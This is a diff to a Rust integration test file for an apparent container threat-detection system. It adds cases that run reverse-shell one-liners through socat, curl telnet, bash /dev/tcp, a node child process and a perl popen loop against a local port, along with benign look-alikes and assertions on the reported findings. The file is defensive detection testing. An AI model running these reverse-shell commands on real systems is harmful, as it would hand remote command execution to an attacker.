@@ -90,6 +90,35 @@ fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String
             "id; exit\n",
             set(&[REVERSE_SHELL, RCE]),
         ),
+        // Shells fed through a relay: a network client that is not netcat wired to a shell by
+        // pipes or a FIFO, and an interpreter or shell that runs commands for a connection it
+        // holds itself (popen loop, child process piped to the socket), or relays a pty.
+        (
+            "socat-fifo",
+            "rm -f /tmp/f; mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | socat - TCP:127.0.0.1:{P} > /tmp/f".into(),
+            "id; exit\n",
+            set(&[SOCAT, RCE]),
+        ),
+        (
+            "curl-telnet",
+            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | curl -sN telnet://127.0.0.1:{P} > /tmp/f".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
+        ("dev-tcp-relay", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; cat <&3 | sh 2>&1 | cat >&3'".into(), "id; exit\n", set(&[RCE])),
+        (
+            "node-spawn",
+            "node -e 'const s=require(\"net\").connect({P},\"127.0.0.1\",()=>{const sh=require(\"child_process\").spawn(\"/bin/sh\",[]);s.pipe(sh.stdin);sh.stdout.pipe(s);sh.stderr.pipe(s);sh.on(\"exit\",()=>s.end())})'".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
+        (
+            "perl-popen",
+            "perl -e 'use IO::Socket::INET; my $s = IO::Socket::INET->new(\"127.0.0.1:{P}\") or die; while (my $l = <$s>) { print $s `$l`; }'".into(),
+            "id; exit\n",
+            set(&[RCE]),
+        ),
+        ("script-pty", "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{P}; script -qc /bin/sh /dev/null <&3 >&3 2>&3'".into(), "id; exit\n", set(&[RCE])),
         ("gcc", "printf 'int main(void){return 0;}' > /tmp/t.c && gcc /tmp/t.c -o /tmp/t && /tmp/t".into(), "", set(&[COMPILER])),
         // A program copied into a memfd and executed from it (memfd_create is syscall 319 on
         // x86_64), and one copied to a memory-backed volume and run there.
@@ -109,6 +138,16 @@ fn container_cases() -> Vec<(&'static str, String, &'static str, BTreeSet<String
         ("nc-host-e", "nc -w 1 host-e 8080; nc -w 1 app-engine 8080; nc -v -w 1 server-c 443; true".into(), "", set(&[])),
         ("socat-forward", "timeout 1 socat TCP-LISTEN:0,reuseaddr,fork TCP:127.0.0.1:{P}; true".into(), "", set(&[])),
         ("shell-pipes", "echo hello | cat | sh -c 'read x; echo $x' | wc -c; ls / | grep usr".into(), "", set(&[])),
+        // Bytes from the network piped into an interpreter that runs its own inline program
+        // (data, not code), and a shell that waits for a port and then runs commands that are
+        // not wired to that connection.
+        (
+            "curl-pipe-data",
+            "curl -s http://127.0.0.1:{P}/ | python3 -c 'import sys; print(len(sys.stdin.read()))'; true".into(),
+            "",
+            set(&[]),
+        ),
+        ("wait-for-port", "bash -c 'until echo > /dev/tcp/127.0.0.1/{P}; do sleep 1; done; ls / > /dev/null; id'".into(), "", set(&[])),
         // An echo service (the listener gets its line back) and an HTTP-style download through
         // /dev/tcp: bytes over a socket, nothing run from them.
         ("nc-e-cat", "nc.traditional -e /bin/cat 127.0.0.1 {P}".into(), "uid=echoed\n", set(&[])),
@@ -282,6 +321,16 @@ async fn real_attacks_raise_exactly_their_categories() {
     let rce = by_pod["bash-dev-tcp"].iter().find(|f| f["finding"]["category"] == RCE).unwrap();
     let commands = rce["finding"]["sourceProperties"]["Commands"].as_array().unwrap();
     assert!(commands.iter().any(|c| c.as_str().is_some_and(|c| c == "id")), "the commands run are listed: {commands:?}");
+    // Relayed shells: the connection's addresses, and the commands run through the relay.
+    for pod in ["curl-telnet", "socat-fifo", "dev-tcp-relay", "node-spawn", "perl-popen"] {
+        let rce = by_pod[pod].iter().find(|f| f["finding"]["category"] == RCE).unwrap();
+        assert_eq!(rce["finding"]["connections"][0]["destinationIp"], "127.0.0.1", "{pod}: {rce}");
+        assert!(rce["finding"]["sourceProperties"]["Network_Relay_Pid"].as_u64().is_some(), "{pod}: {rce}");
+        let commands = rce["finding"]["sourceProperties"]["Commands"].as_array().unwrap();
+        assert!(commands.iter().any(|c| c.as_str().is_some_and(|c| c == "id" || c.starts_with("sh -c id"))), "{pod}: the commands run are listed: {commands:?}");
+        let loops = commands.iter().filter(|c| c.as_str().is_some_and(|c| c.ends_with("through pipes"))).count();
+        assert!(loops <= 1, "{pod}: a relay loop is listed once: {commands:?}");
+    }
     let gcc = &by_pod["gcc"][0];
     assert_eq!(gcc["finding"]["mitreAttack"]["primaryTactic"], "DEFENSE_EVASION");
     assert!(gcc["finding"]["processes"][0]["binary"]["sha256"].as_str().is_some_and(|s| s.len() == 64));
